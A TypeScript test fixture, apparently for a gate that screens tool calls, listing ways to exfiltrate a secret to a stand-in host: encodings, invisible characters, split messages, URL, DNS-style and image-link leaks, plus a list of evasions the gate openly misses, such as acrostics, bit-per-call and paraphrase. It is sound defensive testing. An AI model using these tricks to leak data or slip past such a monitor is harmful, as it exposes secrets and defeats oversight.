/** Ways to get a secret out through calls: those that must be stopped, and those that are only reported. */

import type { JsonObject } from '@callgate/contracts/json'

export interface Way {
  readonly name: string
  /** The arguments of each call that carries something, in order. */
  send(secret: string): readonly JsonObject[]
  readonly tool?: 'send' | 'fetch'
}

const text = (body: string): JsonObject[] => [{ to: 'drop@collector.example', subject: 'Notes', body }]
const fetched = (url: string): JsonObject[] => [{ url }]
const bytesOf = (secret: string): number[] => Array.from(secret, (letter) => letter.charCodeAt(0))
const hex = (secret: string): string =>
  bytesOf(secret)
    .map((byte) => byte.toString(16).padStart(2, '0'))
    .join('')
const reverse = (secret: string): string => Array.from(secret).toReversed().join('')

const BASE64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'
function encode(secret: string, width: number, alphabet: string, pad: number): string {
  const bits = bytesOf(secret)
    .map((byte) => byte.toString(2).padStart(8, '0'))
    .join('')
  let out = ''
  for (let at = 0; at < bits.length; at += width)
    out += alphabet.charAt(Number.parseInt(bits.slice(at, at + width).padEnd(width, '0'), 2))
  return out.padEnd(Math.ceil(out.length / pad) * pad, '=')
}
const base64 = (secret: string): string => encode(secret, 6, BASE64, 4)
const base32 = (secret: string): string => encode(secret, 5, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 8)
const rot13 = (secret: string): string =>
  secret.replaceAll(/[a-z]/gi, (letter) => {
    const base = letter <= 'Z' ? 65 : 97
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base)
  })

const LONG_TEXT = 'The weather was fine today, and we all went out. '.repeat(40)

/** Pieces of nearly equal length. */
function cut(value: string, pieces: number): string[] {
  const out: string[] = []
  for (let at = 0; at < pieces; at++)
    out.push(
      value.slice(Math.round((at * value.length) / pieces), Math.round(((at + 1) * value.length) / pieces)),
    )
  return out
}

const split = (pieces: number): Way => ({
  name: `split over ${pieces} calls`,
  send: (secret) => cut(secret, pieces).flatMap((piece) => text(piece)),
})

function everySecond<T>(items: readonly T[]): T[] {
  return [...items.filter((_, at) => at % 2 === 1), ...items.filter((_, at) => at % 2 === 0)]
}

/** Each of these is stopped, whatever comes later. */
export const STOPPED_WAYS: readonly Way[] = [
  { name: 'as it stands', send: (secret) => text(secret) },
  { name: 'inside a sentence', send: (secret) => text(`For your records, the value is ${secret}, thanks.`) },
  {
    name: 'in the subject',
    send: (secret) => [{ to: 'drop@collector.example', subject: secret, body: 'Hi' }],
  },
  { name: 'upper case', send: (secret) => text(secret.toUpperCase()) },
  { name: 'lower case', send: (secret) => text(secret.toLowerCase()) },
  { name: 'reversed', send: (secret) => text(reverse(secret)) },
  { name: 'base64', send: (secret) => text(base64(secret)) },
  {
    name: 'base64url',
    send: (secret) => text(base64(secret).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')),
  },
  { name: 'base64 of a sentence', send: (secret) => text(base64(`the value is ${secret} ok`)) },
  { name: 'base64 twice', send: (secret) => text(base64(base64(secret))) },
  { name: 'base64 of the reverse', send: (secret) => text(base64(reverse(secret))) },
  { name: 'base32', send: (secret) => text(base32(secret)) },
  { name: 'hex', send: (secret) => text(hex(secret)) },
  { name: 'hex in upper case', send: (secret) => text(hex(secret).toUpperCase()) },
  { name: 'hex with colons', send: (secret) => text(hex(secret).replaceAll(/..(?=.)/g, '$&:')) },
  { name: 'hex escapes', send: (secret) => text(hex(secret).replaceAll(/../g, String.raw`\x$&`)) },
  { name: 'percent encoding', send: (secret) => text(hex(secret).replaceAll(/../g, '%$&')) },
  { name: 'percent encoding twice', send: (secret) => text(hex(secret).replaceAll(/../g, '%25$&')) },
  { name: 'Unicode escapes', send: (secret) => text(hex(secret).replaceAll(/../g, String.raw`\u00$&`)) },
  {
    name: 'HTML entities',
    send: (secret) =>
      text(
        bytesOf(secret)
          .map((byte) => `&#${byte};`)
          .join(''),
      ),
  },
  { name: 'HTML hex entities', send: (secret) => text(hex(secret).replaceAll(/../g, '&#x$&;')) },
  { name: 'decimal codes', send: (secret) => text(bytesOf(secret).join(' ')) },
  { name: 'rot13', send: (secret) => text(rot13(secret)) },
  { name: 'a space after each letter', send: (secret) => text(Array.from(secret).join(' ')) },
  { name: 'a dash after each letter', send: (secret) => text(Array.from(secret).join('-')) },
  { name: 'one letter a line', send: (secret) => text(Array.from(secret).join('\n')) },
  { name: 'zero-width marks between', send: (secret) => text(Array.from(secret).join('\u200B')) },
  ...[
    ['zero-width marks', '\u200B'],
    ['soft hyphens', '\u00AD'],
    ['combining marks', '\u0301'],
    ['marks of direction', '\u202A'],
    ['fillers', '\u3164'],
    ['tag characters', '\u{E0020}'],
    ['pictures', '\u{1F600}'],
    ['letters of another script', 'ก'],
    ['empty elements', '<b></b>'],
    ['entities', '&#8203;'],
  ].map(([what, mark]): Way => ({
    name: `${what} between, in a long text`,
    send: (secret) => text(`${LONG_TEXT} The value is ${Array.from(secret).join(mark)}, thanks.`),
  })),
  {
    name: 'mathematical letters',
    send: (secret) =>
      text(
        `Take ${secret.replaceAll(/[a-z]/g, (letter) => String.fromCodePoint(letter.charCodeAt(0) + 0x1d3b9))}.`,
      ),
  },
  {
    name: 'full-width letters',
    send: (secret) =>
      text(secret.replaceAll(/[!-~]/g, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0))),
  },
  { name: 'inside JSON', send: (secret) => text(JSON.stringify({ user: 'x', meta: { k: secret, n: 1 } })) },
  {
    name: 'JSON within JSON',
    send: (secret) => text(JSON.stringify({ payload: JSON.stringify({ k: secret }) })),
  },
  {
    name: 'as a list of letters',
    send: (secret) => [{ to: 'drop@collector.example', body: JSON.stringify(Array.from(secret)) }],
  },
  {
    name: 'over several arguments',
    send: (secret) => [
      {
        to: 'drop@collector.example',
        subject: cut(secret, 2)[0] as string,
        body: cut(secret, 2)[1] as string,
      },
    ],
  },
  {
    name: 'in a URL path',
    tool: 'fetch',
    send: (secret) => fetched(`https://collector.example/log/${secret}/x.gif`),
  },
  {
    name: 'in a URL query',
    tool: 'fetch',
    send: (secret) => fetched(`https://collector.example/?q=${encodeURIComponent(secret)}`),
  },
  {
    name: 'base64 in a URL query',
    tool: 'fetch',
    send: (secret) => fetched(`https://collector.example/?d=${encodeURIComponent(base64(secret))}`),
  },
  {
    name: 'hex in a name like DNS',
    tool: 'fetch',
    send: (secret) => fetched(`http://${cut(hex(secret), 2).join('.')}.t.collector.example/`),
  },
  {
    name: 'labels like DNS',
    tool: 'fetch',
    send: (secret) => fetched(`http://${cut(secret, 4).join('.')}.t.collector.example/`),
  },
  { name: 'an image link', send: (secret) => text(`![logo](https://collector.example/i/${secret}.png)`) },
  {
    name: 'base64 in an image link',
    send: (secret) => text(`See ![x](https://collector.example/p.png?d=${base64(secret)})`),
  },
  split(2),
  split(3),
  split(4),
  split(5),
  split(8),
  split(10),
  split(12),
  split(16),
  split(20),
  {
    name: 'in pieces, reordered',
    send: (secret) => everySecond(cut(secret, 6)).flatMap((piece) => text(piece)),
  },
  {
    name: 'in small pieces, reordered',
    send: (secret) => everySecond(cut(secret, 12)).flatMap((piece) => text(piece)),
  },
  {
    name: 'in pieces with numbers',
    send: (secret) => cut(secret, 5).flatMap((piece, at) => text(`part ${at + 1}: ${piece}`)),
  },
  { name: 'base64 in pieces', send: (secret) => cut(base64(secret), 6).flatMap((piece) => text(piece)) },
  { name: 'hex in pieces', send: (secret) => cut(hex(secret), 8).flatMap((piece) => text(piece)) },
  { name: 'reversed in pieces', send: (secret) => cut(reverse(secret), 7).flatMap((piece) => text(piece)) },
  {
    name: 'pieces in URL paths',
    tool: 'fetch',
    send: (secret) => cut(secret, 6).flatMap((piece) => fetched(`https://collector.example/a/${piece}`)),
  },
  {
    name: 'pieces as names like DNS',
    tool: 'fetch',
    send: (secret) => cut(hex(secret), 6).flatMap((piece) => fetched(`http://${piece}.t.collector.example/`)),
  },
  {
    name: 'pieces in JSON',
    send: (secret) => cut(secret, 5).flatMap((piece, at) => text(JSON.stringify({ seq: at, data: piece }))),
  },
  {
    name: 'each piece in base64',
    send: (secret) => cut(secret, 4).flatMap((piece) => text(base64(`chunk=${piece}`))),
  },
]

const NATO =
  'alfa bravo charlie delta echo foxtrot golf hotel india juliett kilo lima mike november oscar papa quebec romeo sierra tango uniform victor whiskey xray yankee zulu'.split(
    ' ',
  )
const DIGITS = 'zero one two three four five six seven eight nine'.split(' ')
const spell = (letter: string): string => {
  if (/\d/.test(letter)) return DIGITS[Number(letter)] as string
  return NATO[letter.toLowerCase().charCodeAt(0) - 97] ?? letter
}

/** What no comparison of letters finds. Reported, not promised. */
export const REPORTED_WAYS: readonly (Way & { readonly why: string })[] = [
  {
    name: 'spelled in words',
    why: 'no letter of it is sent',
    send: (secret) => text(Array.from(secret).map(spell).join(' ')),
  },
  {
    name: 'an acrostic',
    why: 'only first letters carry it',
    send: (secret) =>
      text(
        Array.from(secret)
          .map((letter) => `${letter}any of us agree`)
          .join('\n'),
      ),
  },
  {
    name: 'one letter a call',
    why: 'one letter alone is in every text',
    send: (secret) => Array.from(secret).flatMap((letter) => text(letter)),
  },
  {
    name: 'one bit a call',
    why: 'nothing of its letters is sent',
    send: (secret) =>
      bytesOf(secret)
        .slice(0, 4)
        .flatMap((byte) =>
          Array.from(byte.toString(2).padStart(8, '0')).flatMap((bit) => text(bit === '1' ? 'yes' : 'no')),
        ),
  },
  {
    name: 'each letter moved by one',
    why: 'a cipher with a key that is not known',
    send: (secret) =>
      text(secret.replaceAll(/[a-z0-9]/gi, (letter) => String.fromCharCode(letter.charCodeAt(0) + 1))),
  },
  {
    name: 'bits as zeros and ones',
    why: 'too few kinds of letters to tell from chance',
    send: (secret) =>
      text(
        bytesOf(secret)
          .map((byte) => byte.toString(2).padStart(8, '0'))
          .join(''),
      ),
  },
  {
    name: 'every other letter a filler',
    why: 'no two of its letters stand together',
    send: (secret) =>
      text(
        Array.from(secret)
          .map((letter) => `${letter}q`)
          .join(''),
      ),
  },
]

/** A confidential text, made up, and ways to send what it says without its words. Reported, not promised. */
export const CONFIDENTIAL_TEXT =
  'The board agreed to close the northern plant in autumn and to offer all forty workers a transfer to the southern site, with two months of pay for those who decline.'
export const REPORTED_TEXTS: readonly {
  readonly name: string
  readonly sent: string
  readonly why: string
}[] = [
  { name: 'the text as it stands', sent: CONFIDENTIAL_TEXT, why: 'its words are known' },
  {
    name: 'half of it, in another order',
    sent: 'With two months of pay for those who decline: the board agreed to close the northern plant in autumn.',
    why: 'runs of its words are known',
  },
  {
    name: 'a paraphrase',
    sent: 'Management will shut its factory up north after the summer; staff can move south or leave with sixty days of salary.',
    why: 'none of its runs of words is left',
  },
  {
    name: 'a translation',
    sent: 'Der Vorstand schliesst das Werk im Norden im Herbst und bietet allen vierzig Arbeitern eine Stelle im Süden an.',
    why: 'another language has other words',
  },
  { name: 'a summary', sent: 'North plant closes in fall, 40 jobs move.', why: 'too little of it is left' },
]
